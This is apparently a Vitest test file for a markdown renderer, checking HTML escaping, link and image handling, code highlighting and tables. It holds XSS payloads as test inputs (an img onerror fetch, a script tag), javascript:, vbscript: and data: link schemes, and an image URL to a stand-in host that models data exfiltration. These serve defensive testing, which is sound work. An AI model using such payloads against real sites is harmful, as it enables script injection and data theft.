import { describe, expect, it } from 'vitest'
import { renderMarkdown } from '../../utils/markdown'

describe('renderMarkdown', () => {
  it('shows HTML in the text as text', () => {
    const html = renderMarkdown('Look: <img src=x onerror="fetch(\'/xss\')"> <script>alert(1)</script>')
    expect(html).not.toMatch(/<img|<script/)
    expect(html).toContain('&lt;img src=x onerror=&quot;fetch(\'/xss\')&quot;&gt;')
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;')
  })

  it('opens links in a new tab without a handle on the app', () => {
    expect(renderMarkdown('[policy](https://intranet.contoso.com/policy)')).toContain('<a href="https://intranet.contoso.com/policy" target="_blank" rel="noopener noreferrer">policy</a>')
  })

  it.each(['javascript:alert(1)', 'vbscript:msgbox(1)', 'data:text/html;base64,PHNjcmlwdD4='])('does not link %s', (href) => {
    expect(renderMarkdown(`[click](${href})`)).not.toContain('<a ')
  })

  it('turns images into links instead of loading them', () => {
    const html = renderMarkdown('![chart](https://elsewhere.example/leak?data=secret)')
    expect(html).not.toContain('<img')
    expect(html).toContain('href="https://elsewhere.example/leak?data=secret"')
  })

  it('highlights fenced code and gives it a copy button', () => {
    const html = renderMarkdown('```ts\nconst answer: number = 42\n```')
    expect(html).toContain('class="hljs language-ts"')
    expect(html).toContain('<span class="hljs-keyword">const</span>')
    expect(html).toContain('aria-label="Copy code"')
  })

  it('escapes code in a language it does not know', () => {
    expect(renderMarkdown('```cobol\n<b>DISPLAY</b>\n```')).toContain('&lt;b&gt;DISPLAY&lt;/b&gt;')
  })

  it('renders tables in a scrolling box', () => {
    const html = renderMarkdown('| a | b |\n| --- | --- |\n| 1 | 2 |')
    expect(html).toContain('<div class="table-scroll"><table>')
    expect(html).toContain('<th>a</th>')
  })
})
